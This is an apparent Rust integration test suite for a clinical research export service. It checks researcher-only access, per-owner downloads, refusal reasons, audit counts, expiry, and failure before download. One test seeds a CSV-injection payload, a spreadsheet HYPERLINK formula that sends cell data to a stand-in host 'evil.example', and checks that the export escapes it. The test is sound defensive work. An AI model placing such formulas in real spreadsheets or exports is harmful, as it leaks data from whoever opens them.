//! The export page's server functions and downloads over HTTP: researchers only, each
//! export its maker's alone, refusals with their reasons, and a download that cannot be written
//! is refused before it starts (it is written whole to a temporary file first).
use crate::{helpers::*, on_both_databases};
use app::domain::{
    research::{project::Project, Dataset},
    role::Role,
};
use server::{
    services::checkins::CheckinCatalogue,
    storage::audit::Entry,
    synthetic::{self, Options},
};
use std::collections::BTreeSet;

pub async fn world(kind: Kind) -> TestApp {
    let app = spawn(kind).await;
    let journeys = server::journeys::load(None).expect("catalogue");
    let checkins = CheckinCatalogue::builtin().expect("check-ins");
    let options = Options {
        patients: 400,
        responses_per_patient: 4,
        lowest_adherence: 1.0,
        seed: 9,
    };
    synthetic::seed(&app.db, &journeys, &checkins, &options)
        .await
        .expect("seeded");
    let researcher = app.user(Role::Researcher, "researcher@example.org", None).await;
    app.user(Role::Researcher, "other.researcher@example.org", None).await;
    app.user(Role::Admin, "admin@example.org", None).await;
    let project = approved(&app, "Study", researcher, &Dataset::ALL, Default::default()).await;
    assert_eq!(project, 1, "SCORES_AND_FLAGS names the first project");
    app
}

/// A project the steward approved: everyone, these datasets, for this researcher.
pub async fn approved(app: &TestApp, name: &str, researcher: i64, datasets: &[Dataset], centres: BTreeSet<i64>) -> i64 {
    let settings = server::config::Config::for_database("").research();
    let project = Project {
        name: name.into(),
        products: BTreeSet::new(),
        from: None,
        to: None,
        centres,
        datasets: datasets.iter().copied().collect(),
        ethics_ref: "EC 2026/114".into(),
        dua_ref: "DUA-7".into(),
        researchers: BTreeSet::from([researcher]),
        expires_on: chrono::Utc::now().date_naive() + chrono::Days::new(365),
        epsilon_thousandths: 1000,
    };
    // Centres only where the test's deployment allows them.
    let settings = server::export::Settings {
        centre_allowed: !project.centres.is_empty(),
        ..settings
    };
    server::export::approval::approve(
        &app.db,
        settings,
        &project,
        None,
        Entry::new("research.project_approved", "test"),
    )
    .await
    .expect("approved")
    .id
}

pub const SCORES_AND_FLAGS: &[(&str, &str)] = &[
    ("form[datasets][0]", "scores"),
    ("form[datasets][3]", "flags"),
    ("form[formats][0]", "csv"),
    ("form[project]", "1"),
];

async fn only_researchers_export_and_only_their_own(kind: Kind) {
    let app = world(kind).await;
    // A value that got into the data as a spreadsheet formula (CSV injection).
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
    sqlx::query("UPDATE flags SET rule = $1")
        .bind(formula)
        .execute(&app.db.pool)
        .await
        .expect("a poisoned rule");
    let researcher = app.signed_in("researcher@example.org").await;
    let (status, body) = call(&researcher, &app, "research/export", SCORES_AND_FLAGS).await;
    assert_eq!(status, 200, "{body}");
    let created: serde_json::Value = serde_json::from_str(&body).expect("JSON");
    let token = created["token"].as_str().expect("token").to_string();
    assert_eq!(
        created["files"],
        serde_json::json!(["patients.csv", "scores.csv", "flags.csv", "codebook.json"])
    );
    let patients = created["summary"]["patients"].as_u64().expect("a count");
    assert!(patients >= 5 && patients % 5 == 0, "rounded: {body}");
    let month = created["summary"]["through_month"].as_str().unwrap_or_default();
    assert!(
        month.len() == 7 && month.as_bytes()[4] == b'-',
        "a month, not a day: {body}"
    );

    // Nobody else: not signed in, another role, another researcher.
    let admin = app.signed_in("admin@example.org").await;
    let other = app.signed_in("other.researcher@example.org").await;
    assert_eq!(call(&client(), &app, "research/export", SCORES_AND_FLAGS).await.0, 401);
    assert_eq!(call(&admin, &app, "research/export", SCORES_AND_FLAGS).await.0, 403);
    assert_eq!(call(&admin, &app, "research/options", &[]).await.0, 403);
    let zip = app.url(&format!("/research/exports/{token}/export.zip"));
    assert_eq!(admin.get(&zip).send().await.expect("request").status().as_u16(), 403);
    assert_eq!(other.get(&zip).send().await.expect("request").status().as_u16(), 404);
    assert_eq!(client().get(&zip).send().await.expect("request").status().as_u16(), 401);
    assert_eq!(
        call(&other, &app, "research/progress", &[("token", &token)]).await.0,
        404
    );

    // The maker downloads one file, then the whole zip.
    let file = researcher
        .get(app.url(&format!("/research/exports/{token}/files/scores.csv")))
        .send()
        .await
        .expect("request");
    assert_eq!(file.status().as_u16(), 200);
    assert!(file.headers()["content-type"]
        .to_str()
        .unwrap_or_default()
        .starts_with("text/csv"));
    let text = file.text().await.expect("body");
    // Browsers ask for brotli; a download goes out as written, whole.
    let with_br = researcher
        .get(app.url(&format!("/research/exports/{token}/files/scores.csv")))
        .header("accept-encoding", "br, gzip")
        .send()
        .await
        .expect("request");
    assert!(with_br.headers().get("content-encoding").is_none());
    assert_eq!(with_br.text().await.expect("body"), text);
    assert!(
        text.starts_with("research_id,timepoint,week,weeks_after_due,instrument,version,reported_by,scale,score"),
        "{text:.200}"
    );
    // The poisoned cells are written as text a spreadsheet shows, never runs.
    let flags = researcher
        .get(app.url(&format!("/research/exports/{token}/files/flags.csv")))
        .send()
        .await
        .expect("request")
        .text()
        .await
        .expect("body");
    let rules: Vec<&str> = flags.lines().skip(1).filter_map(|l| l.split(',').nth(4)).collect();
    assert!(!rules.is_empty(), "{flags:.300}");
    assert!(
        rules.iter().all(|r| r.starts_with("\"'=HYPERLINK(")),
        "{:?}",
        &rules[..rules.len().min(3)]
    );
    let missing = researcher
        .get(app.url(&format!("/research/exports/{token}/files/items.csv")))
        .send()
        .await
        .expect("request");
    assert_eq!(missing.status().as_u16(), 404, "a file not asked for is not served");
    let response = researcher.get(&zip).send().await.expect("request");
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(response.headers()["content-type"], "application/zip");
    let bytes = response.bytes().await.expect("the whole zip");
    let end = bytes.len().saturating_sub(22);
    assert_eq!(
        &bytes[end..end + 4],
        b"PK\x05\x06",
        "the zip ends with its central directory"
    );
    let (status, progress) = call(&researcher, &app, "research/progress", &[("token", &token)]).await;
    assert_eq!(status, 200);
    assert!(progress.contains("\"state\":\"complete\""), "{progress}");
    let progress: serde_json::Value = serde_json::from_str(&progress).expect("JSON");
    assert!(progress["records_total"].as_i64().is_some_and(|n| n > 0), "{progress}");
    assert_eq!(
        progress["records_done"], progress["records_total"],
        "the bar ends full, not past"
    );
    let audited: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM audit_log WHERE action = 'research.export_downloaded'")
        .fetch_one(&app.db.pool)
        .await
        .expect("audit");
    assert_eq!(
        audited, 4,
        "every download, each file too (scores twice, flags, the zip)"
    );

    // Past its time (24 h by default) an export loses its key and members: no more downloads.
    let expired = server::storage::research_exports::expire_due(&app.db, server::storage::now() + 24 * 3600 + 1)
        .await
        .expect("expiry");
    assert_eq!(expired, 1);
    assert_eq!(
        researcher.get(&zip).send().await.expect("request").status().as_u16(),
        404
    );
    assert_eq!(count(&app, "research_export_members").await, 0);
}

async fn refusals_say_why(kind: Kind) {
    let app = world(kind).await;
    let researcher = app.signed_in("researcher@example.org").await;
    let with = |field: &'static str, value: &'static str| {
        let mut form: Vec<(&str, &str)> = SCORES_AND_FLAGS.iter().filter(|(f, _)| *f != field).copied().collect();
        form.push((field, value));
        form
    };
    // Another researcher's project looks like none at all.
    let other = app.signed_in("other.researcher@example.org").await;
    let (status, body) = call(&other, &app, "research/export", SCORES_AND_FLAGS).await;
    assert_eq!(status, 422);
    assert!(body.contains("\"project\"") && body.contains("ChoiceInvalid"), "{body}");
    let (status, same) = call(&researcher, &app, "research/export", &with("form[project]", "999")).await;
    assert_eq!((status, &same), (422, &body), "unknown and foreign read the same");
    // There are no filters any more: the project is the cohort.
    let (status, body) = call(
        &researcher,
        &app,
        "research/export",
        &[("form[formats][1]", "fhir-ndjson"), ("form[project]", "1")],
    )
    .await;
    assert_eq!(status, 422);
    assert!(body.contains("\"datasets\"") && body.contains("Required"), "{body}");
    // Only the datasets the project was approved for.
    let researcher_id: i64 = sqlx::query_scalar("SELECT id FROM users WHERE email = 'researcher@example.org'")
        .fetch_one(&app.db.pool)
        .await
        .expect("researcher");
    let scores_only = approved(
        &app,
        "Scores only",
        researcher_id,
        &[Dataset::Scores],
        Default::default(),
    )
    .await;
    let project = scores_only.to_string();
    let flags_too = [
        ("form[datasets][0]", "scores"),
        ("form[datasets][3]", "flags"),
        ("form[formats][0]", "csv"),
        ("form[project]", project.as_str()),
    ];
    let (status, body) = call(&researcher, &app, "research/export", &flags_too).await;
    assert_eq!(status, 422);
    assert!(
        body.contains("\"datasets\"") && body.contains("ChoiceInvalid"),
        "{body}"
    );
    // Past its approval, nothing.
    sqlx::query("UPDATE research_projects SET expires_on = '2020-01-01' WHERE id = $1")
        .bind(scores_only)
        .execute(&app.db.pool)
        .await
        .expect("expire");
    let form = [
        ("form[datasets][0]", "scores"),
        ("form[formats][0]", "csv"),
        ("form[project]", project.as_str()),
    ];
    let (status, body) = call(&researcher, &app, "research/export", &form).await;
    assert_eq!(status, 422);
    assert!(body.contains("ProjectExpired"), "{body}");
    // Researchers no longer make projects; the steward approves them.
    assert_eq!(
        call(&researcher, &app, "research/project", &[("name", "Mine")]).await.0,
        404
    );
    let (_, options) = call(&researcher, &app, "research/options", &[]).await;
    assert!(options.contains("Study") && options.contains("\"k\":5"), "{options}");
}

async fn a_download_that_cannot_be_written_is_refused_before_it_starts(kind: Kind) {
    let app = world(kind).await;
    let researcher = app.signed_in("researcher@example.org").await;
    let (status, body) = call(&researcher, &app, "research/export", SCORES_AND_FLAGS).await;
    assert_eq!(status, 200, "{body}");
    let created: serde_json::Value = serde_json::from_str(&body).expect("JSON");
    let token = created["token"].as_str().expect("token");
    let last: i64 =
        // One whose answers the export releases (levels 0 to 5 of time_release::LEVELS).
        sqlx::query_scalar("SELECT patient_id FROM research_export_members WHERE time_level BETWEEN 0 AND 5 ORDER BY research_id DESC LIMIT 1")
            .fetch_one(&app.db.pool)
            .await
            .expect("a member");
    // The first response: before the export's cut, so it is read.
    sqlx::query("UPDATE checkin_responses SET scores = 'not json' WHERE id = (SELECT MIN(id) FROM checkin_responses WHERE patient_id = $1)")
        .bind(last)
        .execute(&app.db.pool)
        .await
        .expect("break one response");
    let response = researcher
        .get(app.url(&format!("/research/exports/{token}/export.zip")))
        .send()
        .await
        .expect("the download answers");
    // Written whole before it is sent: a failure is known before the answer starts.
    assert_eq!(response.status().as_u16(), 500);
    let text = response.text().await.unwrap_or_default();
    assert!(
        text.contains("could not be written") && !text.contains("json"),
        "{text}"
    );
    let (_, progress) = call(&researcher, &app, "research/progress", &[("token", token)]).await;
    assert!(progress.contains("\"state\":\"failed\""), "{progress}");
}

on_both_databases!(
    only_researchers_export_and_only_their_own,
    refusals_say_why,
    a_download_that_cannot_be_written_is_refused_before_it_starts
);
